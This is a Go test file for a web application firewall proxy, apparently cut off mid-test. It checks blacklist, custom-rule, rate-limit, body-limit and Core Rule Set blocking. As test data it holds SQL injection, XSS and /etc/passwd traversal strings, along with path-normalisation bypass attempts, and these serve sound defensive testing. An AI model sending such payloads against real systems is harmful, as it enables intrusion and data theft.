package waf

import (
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/palisade-project/palisade/internal/waf/wafrule"
)

// testCache is shared so the CRS is compiled once per test binary.
var testCache = NewCache()

func conds(t testing.TB, s string) []Condition {
	t.Helper()
	cs, err := wafrule.ParseConditions(s)
	if err != nil {
		t.Fatalf("parse %q: %v", s, err)
	}
	return cs
}

type reqSpec struct {
	ip, method, target, body string
	header                   map[string]string
}

func mkReq(s reqSpec) *http.Request {
	if s.method == "" {
		s.method = http.MethodGet
	}
	if s.target == "" {
		s.target = "/"
	}
	var body io.Reader
	if s.body != "" {
		body = strings.NewReader(s.body)
	}
	r := httptest.NewRequest(s.method, s.target, body)
	if s.ip == "" {
		s.ip = "203.0.113.9"
	}
	r.RemoteAddr = netip.AddrPortFrom(netip.MustParseAddr(s.ip), 40000).String()
	for k, v := range s.header {
		r.Header.Set(k, v)
	}
	return r
}

func evaluate(t testing.TB, c *Compiled, st *State, now time.Time, s reqSpec) Decision {
	t.Helper()
	r := mkReq(s)
	ip, _ := clientAddr(r.RemoteAddr)
	req := ruleRequest(r, ip)
	req.Body = []byte(s.body)
	return c.Evaluate(Input{HTTP: r, Req: req}, st, now)
}

func mustCompile(t testing.TB, p Policy) *Compiled {
	t.Helper()
	c, err := Compile(p, testCache)
	if err != nil {
		t.Fatal(err)
	}
	return c
}

var t0 = time.Date(2026, 11, 25, 12, 0, 0, 0, time.UTC)

func TestModules(t *testing.T) {
	block, monitor := wafrule.Block, wafrule.Monitor
	base := Policy{
		ObjectID: "obj",
		Whitelist: []WhitelistRule{
			{ID: "wl-office", Conditions: conds(t, "ip in-cidr 192.0.2.0/24")},
			{ID: "wl-health", Conditions: conds(t, "path equals /healthz"), Bypass: ModuleSet(0).With(wafrule.ModuleCustom)},
		},
		Blacklist: []BlacklistEntry{
			{ID: "bl-1", Prefix: netip.MustParsePrefix("198.51.100.0/24")},
			{ID: "bl-old", Prefix: netip.MustParsePrefix("203.0.113.200/32"), Expires: t0.Add(-time.Minute)},
			{ID: "bl-new", Prefix: netip.MustParsePrefix("203.0.113.201/32"), Expires: t0.Add(time.Minute)},
			{ID: "bl-office", Prefix: netip.MustParsePrefix("192.0.2.7/32")},
		},
		Custom: []CustomRule{
			{ID: "cr-admin", Conditions: conds(t, "path prefix /admin && method equals post"), Action: block},
			{ID: "cr-curl", Conditions: conds(t, "header:User-Agent contains curl,wget"), Action: monitor},
			{ID: "cr-q", Conditions: conds(t, `query:id regex "^[0-9]+x$"`), Action: block},
			{ID: "cr-cookie", Conditions: conds(t, "cookie:role equals root"), Action: block},
			{ID: "cr-url", Conditions: conds(t, `url contains "debug=1"`), Action: monitor},
			{ID: "cr-body", Conditions: conds(t, "body contains DROP"), Action: block},
			{ID: "cr-ip", Conditions: conds(t, "ip equals 203.0.113.77"), Action: monitor},
			{ID: "cr-health", Conditions: conds(t, "path equals /healthz"), Action: block},
		},
	}
	c := mustCompile(t, base)
	cases := []struct {
		name    string
		req     reqSpec
		action  Action
		module  Module
		rules   []string
		matches int
	}{
		{"clean", reqSpec{}, wafrule.Pass, 0, nil, 0},
		{"blacklist cidr", reqSpec{ip: "198.51.100.3"}, block, wafrule.ModuleBlacklist, []string{"bl-1"}, 1},
		{"blacklist expired", reqSpec{ip: "203.0.113.200"}, wafrule.Pass, 0, nil, 0},
		{"blacklist not yet expired", reqSpec{ip: "203.0.113.201"}, block, wafrule.ModuleBlacklist, []string{"203.0.113.201"}, 1},
		{"whitelist bypasses blacklist", reqSpec{ip: "192.0.2.7", method: "POST", target: "/admin/x"}, wafrule.Pass, 0, nil, 0},
		{"custom block", reqSpec{method: "POST", target: "/admin/users"}, block, wafrule.ModuleCustom, []string{"cr-admin"}, 1},
		{"custom get not matched", reqSpec{target: "/admin/users"}, wafrule.Pass, 0, nil, 0},
		{"custom monitor", reqSpec{header: map[string]string{"User-Agent": "curl/8"}}, monitor, wafrule.ModuleCustom, []string{"cr-curl"}, 1},
		{"strongest wins", reqSpec{method: "POST", target: "/admin", header: map[string]string{"User-Agent": "wget"}}, block, wafrule.ModuleCustom, []string{"cr-admin"}, 2},
		{"two monitors", reqSpec{target: "/?debug=1", header: map[string]string{"User-Agent": "curl"}}, monitor, wafrule.ModuleCustom, []string{"cr-curl", "cr-url"}, 2},
		{"query arg regex", reqSpec{target: "/p?id=12x"}, block, wafrule.ModuleCustom, []string{"cr-q"}, 1},
		{"query arg no match", reqSpec{target: "/p?id=12"}, wafrule.Pass, 0, nil, 0},
		{"cookie", reqSpec{header: map[string]string{"Cookie": "a=b; role=root"}}, block, wafrule.ModuleCustom, []string{"cr-cookie"}, 1},
		{"body", reqSpec{method: "POST", body: "x; DROP TABLE"}, block, wafrule.ModuleCustom, []string{"cr-body"}, 1},
		{"ip equals", reqSpec{ip: "203.0.113.77"}, monitor, wafrule.ModuleCustom, []string{"cr-ip"}, 1},
		{"whitelist bypasses only custom", reqSpec{target: "/healthz"}, wafrule.Pass, 0, nil, 0},
		{"partial bypass keeps blacklist", reqSpec{ip: "198.51.100.9", target: "/healthz"}, block, wafrule.ModuleBlacklist, []string{"bl-1"}, 1},
		// The path as the origin resolves it: another spelling of /admin
		// is still /admin, and /healthz/.. is not /healthz.
		{"path double slash", reqSpec{method: "POST", target: "//admin/users"}, block, wafrule.ModuleCustom, []string{"cr-admin"}, 1},
		{"path dot segment", reqSpec{method: "POST", target: "/./admin"}, block, wafrule.ModuleCustom, []string{"cr-admin"}, 1},
		{"path dot-dot", reqSpec{method: "POST", target: "/static/../admin"}, block, wafrule.ModuleCustom, []string{"cr-admin"}, 1},
		{"path encoded slash", reqSpec{method: "POST", target: "/%2fadmin"}, block, wafrule.ModuleCustom, []string{"cr-admin"}, 1},
		{"path backslash", reqSpec{method: "POST", target: "/%5cadmin"}, block, wafrule.ModuleCustom, []string{"cr-admin"}, 1},
		{"whitelist path not by dot-dot", reqSpec{ip: "198.51.100.9", target: "/healthz/../admin"}, block, wafrule.ModuleBlacklist, []string{"bl-1"}, 1},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			d := evaluate(t, c, NewState(), t0, tc.req)
			if d.Action != tc.action || d.Module != tc.module || !slices.Equal(d.RuleIDs, tc.rules) || len(d.Matches) != tc.matches {
				t.Errorf("got %s by %q rules %v matches %v; want %s by %q rules %v (%d matches)",
					d.Action, d.Module, d.RuleIDs, d.Matches, tc.action, tc.module, tc.rules, tc.matches)
			}
		})
	}
	// Blacklist module in Monitor mode: logged, the custom block still wins.
	mon := base
	mon.BlacklistAction = monitor
	c2 := mustCompile(t, mon)
	d := evaluate(t, c2, NewState(), t0, reqSpec{ip: "198.51.100.3"})
	if d.Action != monitor || d.Module != wafrule.ModuleBlacklist {
		t.Errorf("monitor blacklist: %+v", d)
	}
	d = evaluate(t, c2, NewState(), t0, reqSpec{ip: "198.51.100.3", method: "POST", target: "/admin"})
	if d.Action != block || d.Module != wafrule.ModuleCustom || len(d.Matches) != 2 {
		t.Errorf("monitor blacklist + custom block: %+v", d)
	}
}

func TestRateLimits(t *testing.T) {
	p := Policy{ObjectID: "obj", RateLimits: []RateLimit{
		{ID: "rl-ip", Conditions: conds(t, "path prefix /login"), By: RateByIP, Interval: 10 * time.Second, Threshold: 3, BlockFor: time.Minute, Action: wafrule.Block},
		{ID: "rl-key", By: RateByHeader, Header: "x-api-key", Interval: 10 * time.Second, Threshold: 2, BlockFor: 30 * time.Second, Action: wafrule.Monitor},
		{ID: "rl-404", By: RateByIP, Interval: 10 * time.Second, Threshold: 2, BlockFor: time.Minute, Status: 404, Action: wafrule.Block},
	}}
	c := mustCompile(t, p)
	t.Run("by ip", func(t *testing.T) {
		st := NewState()
		for i := 1; i <= 3; i++ {
			if d := evaluate(t, c, st, t0, reqSpec{target: "/login"}); d.Action != wafrule.Pass {
				t.Fatalf("request %d: %s", i, d.Action)
			}
		}
		if d := evaluate(t, c, st, t0.Add(time.Second), reqSpec{target: "/login"}); d.Action != wafrule.Block || d.RuleIDs[0] != "rl-ip" {
			t.Fatalf("4th request: %+v", d)
		}
		if d := evaluate(t, c, st, t0.Add(2*time.Second), reqSpec{ip: "203.0.113.10", target: "/login"}); d.Action != wafrule.Pass {
			t.Errorf("other IP: %s", d.Action)
		}
		if d := evaluate(t, c, st, t0.Add(2*time.Second), reqSpec{target: "/other"}); d.Action != wafrule.Pass {
			t.Errorf("unscoped path: %s", d.Action)
		}
		if d := evaluate(t, c, st, t0.Add(50*time.Second), reqSpec{target: "/login"}); d.Action != wafrule.Block {
			t.Errorf("still blocked: %s", d.Action)
		}
		if d := evaluate(t, c, st, t0.Add(62*time.Second), reqSpec{target: "/login"}); d.Action != wafrule.Pass {
			t.Errorf("after block expired: %s", d.Action)
		}
	})
	t.Run("window resets", func(t *testing.T) {
		st := NewState()
		for i := range 10 {
			if d := evaluate(t, c, st, t0.Add(time.Duration(i)*4*time.Second), reqSpec{target: "/login"}); d.Action != wafrule.Pass {
				t.Fatalf("request %d spaced 4s: %s", i, d.Action)
			}
		}
	})
	t.Run("by header", func(t *testing.T) {
		st := NewState()
		h := map[string]string{"X-Api-Key": "k1"}
		for i := 1; i <= 2; i++ {
			evaluate(t, c, st, t0, reqSpec{header: h, ip: fmt.Sprintf("203.0.113.%d", i)})
		}
		if d := evaluate(t, c, st, t0, reqSpec{header: h, ip: "203.0.113.50"}); d.Action != wafrule.Monitor || d.RuleIDs[0] != "rl-key" {
			t.Errorf("3rd with same key from new IP: %+v", d)
		}
		if d := evaluate(t, c, st, t0, reqSpec{header: map[string]string{"X-Api-Key": "k2"}}); d.Action != wafrule.Pass {
			t.Errorf("other key: %s", d.Action)
		}
		if d := evaluate(t, c, st, t0, reqSpec{}); d.Action != wafrule.Pass {
			t.Errorf("no key: %s", d.Action)
		}
	})
	t.Run("by status", func(t *testing.T) {
		st := NewState()
		for i := range 3 {
			d := evaluate(t, c, st, t0, reqSpec{target: "/missing"})
			if d.Action != wafrule.Pass {
				t.Fatalf("404 #%d blocked before threshold", i)
			}
			r := mkReq(reqSpec{target: "/missing"})
			ip, _ := clientAddr(r.RemoteAddr)
			c.ObserveResponse(ruleRequest(r, ip), &d, 404, st, t0)
		}
		if d := evaluate(t, c, st, t0.Add(time.Second), reqSpec{target: "/fine"}); d.Action != wafrule.Block || d.RuleIDs[0] != "rl-404" {
			t.Errorf("after three 404s: %+v", d)
		}
	})
}

func TestCompileRejects(t *testing.T) {
	bad := []Policy{
		{Profile: Profile{Action: wafrule.Block, ParanoiaLevel: 5}},
		{Profile: Profile{BodyLimit: MaxBodyLimit + 1}},
		{Profile: Profile{BodyAction: "drop"}},
		{Profile: Profile{ExcludeTags: []string{"a b"}}},
		{Custom: []CustomRule{{ID: "x", Conditions: conds(t, "path equals /"), Action: wafrule.Pass}}},
		{RateLimits: []RateLimit{{ID: "x", By: RateByIP, Interval: 0, Threshold: 1, BlockFor: time.Second, Action: wafrule.Block}}},
		{RateLimits: []RateLimit{{ID: "x", By: RateByHeader, Interval: time.Second, Threshold: 1, BlockFor: time.Second, Action: wafrule.Block}}},
		{Blacklist: []BlacklistEntry{{ID: "x"}}},
	}
	for i, p := range bad {
		if _, err := Compile(p, testCache); err == nil {
			t.Errorf("%d: compiled %+v", i, p)
		}
	}
}

// upstream answers 200 with the forwarding headers it saw, or the status
// named in /status/N.
func upstream(t testing.TB) *httptest.Server {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if n, ok := strings.CutPrefix(r.URL.Path, "/status/"); ok {
			var code int
			fmt.Sscan(n, &code)
			w.WriteHeader(code)
			return
		}
		if kind, ok := strings.CutPrefix(r.URL.Path, "/leak/"); ok {
			// An application that leaks what the CRS's response rules
			// look for, after pad bytes of ordinary text.
			var pad int
			fmt.Sscan(r.URL.Query().Get("pad"), &pad)
			if enc := r.URL.Query().Get("encoding"); enc != "" {
				w.Header().Set("Content-Encoding", enc)
			}
			w.Header().Set("Content-Type", "text/html")
			_, _ = io.WriteString(w, strings.Repeat("all is well ", pad/12))
			_, _ = io.WriteString(w, leaks[kind])
			return
		}
		b, _ := io.ReadAll(r.Body)
		w.Header().Set("X-Seen-XFF", r.Header.Get("X-Forwarded-For"))
		w.Header().Set("X-Seen-Real-IP", r.Header.Get("X-Real-IP"))
		w.Header().Set("X-Seen-Host", r.Host)
		fmt.Fprintf(w, "ok %d", len(b))
	}))
	t.Cleanup(srv.Close)
	return srv
}

type memSink struct {
	mu   sync.Mutex
	recs []Record
	seen int
}

func (m *memSink) Log(r Record) { m.mu.Lock(); m.recs = append(m.recs, r); m.mu.Unlock() }

// last waits for the record of the request just answered (the proxy logs
// after the response is written) and returns it.
func (m *memSink) last() Record {
	for i := 0; ; i++ {
		m.mu.Lock()
		n := len(m.recs)
		if n > m.seen || i == 200 {
			m.seen = n
			defer m.mu.Unlock()
			if n == 0 {
				return Record{}
			}
			return m.recs[n-1]
		}
		m.mu.Unlock()
		time.Sleep(5 * time.Millisecond)
	}
}

func startProxy(t testing.TB, p Policy) (*Proxy, *httptest.Server, *memSink) {
	t.Helper()
	up := upstream(t)
	u, _ := url.Parse(up.URL)
	sink := &memSink{}
	px, err := NewProxy(Options{ObjectID: "waf-obj", Upstream: u, Cache: testCache, Sink: sink}, p)
	if err != nil {
		t.Fatal(err)
	}
	front := httptest.NewServer(px)
	t.Cleanup(front.Close)
	return px, front, sink
}

func do(t testing.TB, c *http.Client, method, u, body string, h map[string]string) (*http.Response, string) {
	t.Helper()
	var rd io.Reader
	if body != "" {
		rd = strings.NewReader(body)
	}
	req, _ := http.NewRequest(method, u, rd)
	for k, v := range h {
		req.Header.Set(k, v)
	}
	resp, err := c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	return resp, string(b)
}

func TestCoreRuleSet(t *testing.T) {
	attacks := []struct{ name, method, target, body string }{
		{"sqli query", "GET", "/search?q=1%27%20OR%20%271%27%3D%271", ""},
		{"sqli union", "GET", "/item?id=1%20UNION%20SELECT%20username,password%20FROM%20users--", ""},
		{"xss query", "GET", "/?q=%3Cscript%3Ealert(1)%3C/script%3E", ""},
		{"xss form body", "POST", "/comment", "text=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"},
		{"path traversal", "GET", "/download?file=../../../../etc/passwd", ""},
	}
	for _, mode := range []Action{wafrule.Block, wafrule.Monitor} {
		t.Run(mode.String(), func(t *testing.T) {
			_, front, sink := startProxy(t, Policy{Profile: Profile{Action: mode, ParanoiaLevel: 1}})
			for _, a := range attacks {
				h := map[string]string{"User-Agent": "Mozilla/5.0 test", "Accept": "*/*"}
				if a.body != "" {
					h["Content-Type"] = "application/x-www-form-urlencoded"
				}
				resp, _ := do(t, front.Client(), a.method, front.URL+a.target, a.body, h)
				rec := sink.last()
				wantStatus := http.StatusMethodNotAllowed
				if mode == wafrule.Monitor {
					wantStatus = http.StatusOK
				}
				if resp.StatusCode != wantStatus || rec.Action != mode.String() || rec.Module != "crs" || len(rec.RuleIDs) == 0 || rec.Score < 5 {
					t.Errorf("%s: status %d, log %+v", a.name, resp.StatusCode, rec)
				}
			}
			resp, body := do(t, front.Client(), "GET", front.URL+"/products?page=2&sort=price", "", map[string]string{"User-Agent": "Mozilla/5.0", "Accept": "text/html"})
			if rec := sink.last(); resp.StatusCode != 200 || rec.Action != "pass" || !strings.HasPrefix(body, "ok") {
				t.Errorf("clean request: %d %q %+v", resp.StatusCode, body, rec)
			}
		})
	}
}

// TestEngineShared: objects with equal profiles share one compiled engine;
// another paranoia level, Monitor or response inspection compiles another.
func TestEngineShared(t *testing.T) {
	cache := NewCache()
	a, err := Compile(Policy{ObjectID: "a", Profile: Profile{Action: wafrule.Block, ExcludeRuleIDs: []int{942100, 920350}}}, cache)
	if err != nil {
		t.Fatal(err)
	}
	b, err := Compile(Policy{ObjectID: "b", Profile: Profile{Action: wafrule.Block, ParanoiaLevel: 1, InboundThreshold: 5, ExcludeRuleIDs: []int{920350, 942100}}}, cache)
	if err != nil {
		t.Fatal(err)
	}
	if a.engine != b.engine || cache.Builds() != 1 {
		t.Errorf("equal profiles compiled %d engines", cache.Builds())
	}
	c, err := Compile(Policy{ObjectID: "c", Profile: Profile{Action: wafrule.Block, ParanoiaLevel: 2}}, cache)
	if err != nil {
		t.Fatal(err)
	}
	if c.engine == a.engine || cache.Builds() != 2 {
		t.Errorf("paranoia 2 shares the paranoia 1 engine")
	}
	// Monitor runs its engine DetectionOnly, and response inspection
	// changes the engine's settings: each is an engine of its own.
	m, err := Compile(Policy{ObjectID: "m", Profile: Profile{Action: wafrule.Monitor, ExcludeRuleIDs: []int{942100, 920350}}}, cache)
	if err != nil {
		t.Fatal(err)
	}
	r, err := Compile(Policy{ObjectID: "r", Profile: Profile{Action: wafrule.Block, InspectResponses: true, ExcludeRuleIDs: []int{942100, 920350}}}, cache)
	if err != nil {
		t.Fatal(err)
	}
	if m.engine == a.engine || r.engine == a.engine || r.engine == m.engine || cache.Builds() != 4 {
		t.Errorf("monitor or response inspection shares an engine (%d built)", cache.Builds())
	}
	cache.Retain([]Profile{c.Profile()})
	if cache.Len() != 1 {
		t.Errorf("Retain kept %d engines", cache.Len())
	}
}

func TestCRSExclusions(t *testing.T) {
	const xss = "/?q=%3Cscript%3Ealert(1)%3C/script%3E"
	_, front, sink := startProxy(t, Policy{Profile: Profile{Action: wafrule.Block, ExcludeTags: []string{"attack-xss"}}})
	h := map[string]string{"User-Agent": "Mozilla/5.0", "Accept": "*/*"}
	if resp, _ := do(t, front.Client(), "GET", front.URL+xss, "", h); resp.StatusCode != 200 {
		t.Errorf("xss with attack-xss excluded: %d %+v", resp.StatusCode, sink.last())
	}
	if resp, _ := do(t, front.Client(), "GET", front.URL+"/download?file=../../../../etc/passwd", "", h); resp.StatusCode != 405 {
		t.Errorf("traversal still blocked: %d", resp.StatusCode)
	}
}

func TestForwardingHeaders(t *testing.T) {
	_, front, _ := startProxy(t, Policy{})
	resp, body := do(t, front.Client(), "GET", front.URL+"/x", "", map[string]string{"X-Forwarded-For": "6.6.6.6", "X-Real-IP": "6.6.6.6"})
	if resp.StatusCode != 200 || resp.Header.Get("X-Seen-XFF") != "127.0.0.1" || resp.Header.Get("X-Seen-Real-IP") != "127.0.0.1" {
		t.Errorf("forwarded %d %q XFF=%q real=%q", resp.StatusCode, body, resp.Header.Get("X-Seen-XFF"), resp.Header.Get("X-Seen-Real-IP"))
	}
	if !strings.HasPrefix(resp.Header.Get("X-Seen-Host"), "127.0.0.1:") {
		t.Errorf("host not preserved: %q", resp.Header.Get("X-Seen-Host"))
	}
}

func TestBlockResponse(t *testing.T) {
	p := Policy{Custom: []CustomRule{{ID: "c", Conditions: conds(t, "path prefix /x"), Action: wafrule.Block}},
		Response: BlockResponse{Status: 429, Headers: map[string]string{"Retry-After": "30", "Content-Type": "application/json"}, Body: `{"blocked":true}`}}
	px, front, sink := startProxy(t, p)
	resp, body := do(t, front.Client(), "GET", front.URL+"/x", "", nil)
	if resp.StatusCode != 429 || resp.Header.Get("Retry-After") != "30" || body != `{"blocked":true}` || sink.last().Status != 429 {
		t.Errorf("custom: %d %v %q", resp.StatusCode, resp.Header, body)
	}
	for _, s := range []int{204, 304, 199, 601, 0} {
		p.Response = BlockResponse{Status: s}
		if err := px.Update(p); err != nil {
			t.Fatal(err)
		}
		if resp, _ := do(t, front.Client(), "GET", front.URL+"/x", "", nil); resp.StatusCode != 405 {
			t.Errorf("status %d should fall back to 405, got %d", s, resp.StatusCode)
		}
	}
}

func TestBodyLimit(t *testing.T) {
	big := "a=" + strings.Repeat("x", 5000) + "&q=%3Cscript%3Ealert(1)%3C/script%3E"
	h := map[string]string{"Content-Type": "application/x-www-form-urlencoded", "User-Agent": "Mozilla/5.0", "Accept": "*/*"}
	cases := []struct {
		action BodyAction
		status int
		body   string
	}{
		{BodyBlock, 413, ""},
		{BodyInspectPartial, 200, fmt.Sprintf("ok %d", len(big))}, // the attack lies past the limit
		{BodySkip, 200, fmt.Sprintf("ok %d", len(big))},
	}
	for _, tc := range cases {
		t.Run(string(tc.action), func(t *testing.T) {
			_, front, sink := startProxy(t, Policy{Profile: Profile{Action: wafrule.Block, BodyLimit: 4096, BodyAction: tc.action}})
			resp, body := do(t, front.Client(), "POST", front.URL+"/upload", big, h)
			if resp.StatusCode != tc.status || (tc.body != "" && body != tc.body) {
				t.Errorf("status %d body %q, want %d %q; log %+v", resp.StatusCode, body, tc.status, tc.body, sink.last())
			}
			// Small bodies are inspected whole.
			resp, _ = do(t, front.Client(), "POST", front.URL+"/c", "q=%3Cscript%3Ealert(1)%3C/script%3E", h)
			if resp.StatusCode != 405 {
				t.Errorf("small attack body: %d", resp.StatusCode)
			}
		})
	}
	t.Run("chunked body over the limit", func(t *testing.T) {
		_, front, _ := startProxy(t, Policy{Profile: Profile{Action: wafrule.Block, BodyLimit: 4096, BodyAction: BodyBlock}})
		req, _ := http.NewRequest("POST", front.URL+"/upload", io.MultiReader(strings.NewReader(big), strings.NewReader(strings.Repeat("y", 1<<20))))
		req.Header.Set("Content-Type", "application/octet-stream")
		resp, err := front.Client().Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if len(req.TransferEncoding) == 0 && req.ContentLength > 0 {
			t.Fatal("request was not chunked")
		}
		if resp.StatusCode != 413 {
			t.Errorf("chunked 1 MiB body with a 4 KiB limit: %d", resp.StatusCode)
		}
	})
	t.Run("large valid JSON passes", func(t *testing.T) {
		_, front, sink := startProxy(t, Policy{Profile: Profile{Action: wafrule.Block, BodyLimit: 4096}})
		js := `{"items":[` + strings.Repeat(`{"name":"widget","qty":1},`, 400) + `{"name":"x","qty":2}]}`
		resp, _ := do(t, front.Client(), "POST", front.URL+"/api", js, map[string]string{"Content-Type": "application/json", "User-Agent": "Mozilla/5.0", "Accept": "*/*"})
		if resp.StatusCode != 200 {
			t.Errorf("10 KiB JSON with a 4 KiB limit: %d %+v", resp.StatusCode, sink.last())
		}
		small := `{"q":"1' OR '1'='1' UNION SELECT password FROM users--"}`
		if resp, _ := do(t, front.Client(), "POST", front.URL+"/api", small, map[string]string{"Content-Type": "application/json", "User-Agent": "Mozilla/5.0", "Accept": "*/*"}); resp.StatusCode != 405 {
			t.Errorf("SQLi in a small JSON body: %d", resp.StatusCode)
		}
	})
	t.Run("partial inspects the head", func(t *testing.T) {
		_, front, _ := startProxy(t, Policy{Profile: Profile{Action: wafrule.Block, BodyLimit: 4096}})
		attackFirst := "q=%3Cscript%3Ealert(1)%3C/script%3E&a=" + strings.Repeat("x", 10000)
		if resp, _ := do(t, front.Client(), "POST", front.URL+"/c", attackFirst, h); resp.StatusCode != 405 {
			t.Errorf("attack in the first bytes of a large body: %d", resp.StatusCode)
		}
	})
}

func TestRateLimitThroughProxy(t *testing.T) {
	p := Policy{RateLimits: []RateLimit{{ID: "rl-404", By: RateByIP, Status: 404, Interval: time.Minute, Threshold: 2, BlockFor: time.Minute, Action: wafrule.Block}}}
	_, front, sink := startProxy(t, p)
	for range 3 {
		do(t, front.Client(), "GET", front.URL+"/status/404", "", nil)
	}
	if resp, _ := do(t, front.Client(), "GET", front.URL+"/ok", "", nil); resp.StatusCode != 405 || sink.last().Module != "ratelimit" {
		t.Errorf("after three 404s: %d %+v", resp.StatusCode, sink.last())
	}
}

// TestHotReload changes a rule while many clients send requests: every
// request gets an answer (none fails), and the new rule is in force for
// requests sent after Update returns.
func TestHotReload(t *testing.T) {
	rule := func(path string) Policy {
		return Policy{Profile: Profile{Action: wafrule.Block},
			Custom: []CustomRule{{ID: "c", Conditions: conds(t, "path prefix "+path), Action: wafrule.Block}}}
	}
	px, front, _ := startProxy(t, rule("/a"))
	client := &http.Client{Transport: &http.Transport{MaxIdleConnsPerHost: 64}}
	var failed, done atomic.Int64
	stop := make(chan struct{})
	var wg sync.WaitGroup
	for w := range 8 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; ; i++ {
				select {
				case <-stop:
					return
				default:
				}
				resp, err := client.Get(fmt.Sprintf("%s/c/%d/%d?x=1", front.URL, w, i))
				if err != nil {
					failed.Add(1)
					continue
				}
				io.Copy(io.Discard, resp.Body)
				resp.Body.Close()
				if resp.StatusCode != 200 {
					failed.Add(1)
				}
				done.Add(1)
			}
		}()
	}
	for i := range 20 {
		path := "/a"
		if i%2 == 0 {
			path = "/b"
		}
		if i%5 == 0 {
			p := rule(path)
			p.Profile.ParanoiaLevel = 1 + i%2 // a profile change too: new engine
			if err := px.Update(p); err != nil {
				t.Fatal(err)
			}
		} else if err := px.Update(rule(path)); err != nil {
			t.Fatal(err)
		}
		resp, _ := do(t, client, "GET", front.URL+path+"/x", "", nil)
		if resp.StatusCode != 405 {
			t.Errorf("reload %d: new rule %s not in force (%d)", i, path, resp.StatusCode)
		}
		time.Sleep(20 * time.Millisecond)
	}
	close(stop)
	wg.Wait()
	if failed.Load() != 0 || done.Load() < 50 {
		t.Errorf("%d of %d in-flight requests failed", failed.Load(), done.Load())
	}
	t.Logf("%d requests during 20 reloads, %d failed", done.Load(), failed.Load())
}

func TestFileSink(t *testing.T) {
	path := t.TempDir() + "/waf.jsonl"
	fs, err := OpenFileSink(path)
	if err != nil {
		t.Fatal(err)
	}
	up := upstream(t)
	u, _ := url.Parse(up.URL)
	px, err := NewProxy(Options{ObjectID: "o", Upstream: u, Sink: fs}, Policy{Blacklist: []BlacklistEntry{{ID: "b", Prefix: netip.MustParsePrefix("127.0.0.0/8")}}})
	if err != nil {
		t.Fatal(err)
	}
	rec := httptest.NewRecorder()
	r := httptest.NewRequest("GET", "/p?q=1", nil)
	r.RemoteAddr = "127.0.0.1:5555"
	px.ServeHTTP(rec, r)
	if err := fs.Close(); err != nil {
		t.Fatal(err)
	}
	b, _ := readFile(path)
	for _, want := range []string{`"object":"o"`, `"client_ip":"127.0.0.1"`, `"uri":"/p?q=1"`, `"status":405`, `"module":"blacklist"`, `"rule_ids":["b"]`, `"action":"block"`} {
		if !strings.Contains(b, want) {
			t.Errorf("log line lacks %s: %s", want, b)
		}
	}
}

// TestBufferBudget: bodies held for inspection are bounded across requests
// in flight; over the budget the proxy answers 503 instead of buffering.
func TestBufferBudget(t *testing.T) {
	release := make(chan struct{})
	up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		io.Copy(io.Discard, r.Body)
		<-release
	}))
	defer up.Close()
	u, _ := url.Parse(up.URL)
	px, err := NewProxy(Options{Upstream: u, Cache: testCache, MaxBuffered: 10000}, Policy{Profile: Profile{Action: wafrule.Monitor, BodyLimit: 6000}})
	if err != nil {
		t.Fatal(err)
	}
	front := httptest.NewServer(px)
	defer front.Close()
	body := strings.Repeat("a", 5000)
	first := make(chan int)
	go func() {
		resp, err := http.Post(front.URL+"/1", "text/plain", strings.NewReader(body))
		if err != nil {
			first <- 0
			return
		}
		resp.Body.Close()
		first <- resp.StatusCode
	}()
	for px.buffered.Load() == 0 {
		time.Sleep(time.Millisecond)
	}
	resp, err := http.Post(front.URL+"/2", "text/plain", strings.NewReader(body+body))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusServiceUnavailable {
		t.Errorf("second body over the budget: %d", resp.StatusCode)
	}
	close(release)
	if s := <-first; s != 200 {
		t.Errorf("first request: %d", s)
	}
	// The handler releases its reservation after the client has its
	// response, so give it a moment; it must reach zero.
	deadline := time.Now().Add(2 * time.Second)
	for px.buffered.Load() != 0 && time.Now().Before(deadline) {
		time.Sleep(time.Millisecond)
	}
	if n := px.buffered.Load(); n != 0 {
		t.Errorf("%d bytes still reserved", n)
	}
}

// leaks are response bodies the CRS's response rules detect.
var leaks = map[string]string{
	"sql":   "Warning: mysql_fetch_array() expects parameter 1 to be resource, boolean given in /var/www/list.php on line 12: You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version",
	"php":   "<?php echo \"Hello World!\"; ?>",
	"java":  "java.lang.NullPointerException\n\tat com.example.Shop.list(Shop.java:42)\n\tat javax.servlet.http.HttpServlet.service(HttpServlet.java:790)",
	"clean": "<html><body>Products: 42</body></html>",
}

// TestResponseInspection: with InspectResponses, an upstream answer that
// leaks errors or source code is replaced by the block response (Block) or
// passed and logged (Monitor); clean answers, answers past the inspection
// limit and compressed answers pass whole; without it nothing is read.
func TestResponseInspection(t *testing.T) {
	h := map[string]string{"User-Agent": "Mozilla/5.0 test", "Accept": "text/html"}
	for _, tc := range []struct {
		name    string
		profile Profile
		target  string
		status  int
		action  string
		rule    string // a rule ID the log must name; "" for none
	}{
		{"block sql error", Profile{Action: wafrule.Block, InspectResponses: true}, "/leak/sql", 405, "block", "951"},
		{"block php source", Profile{Action: wafrule.Block, InspectResponses: true}, "/leak/php", 405, "block", "953"},
		{"block java error", Profile{Action: wafrule.Block, InspectResponses: true}, "/leak/java", 405, "block", "952"},
		{"monitor php source", Profile{Action: wafrule.Monitor, InspectResponses: true}, "/leak/php", 200, "monitor", "953"},
		// Monitor goes on after an inbound detection (DetectionOnly):
		// the flagged request's answer is inspected too.
		{"monitor flagged request, php source", Profile{Action: wafrule.Monitor, InspectResponses: true}, "/leak/php?q=%3Cscript%3Ealert(1)%3C/script%3E", 200, "monitor", "953"},
		{"clean", Profile{Action: wafrule.Block, InspectResponses: true}, "/leak/clean", 200, "pass", ""},
		{"leak past the limit", Profile{Action: wafrule.Block, InspectResponses: true, BodyLimit: 1024}, "/leak/php?pad=4096", 200, "pass", ""},
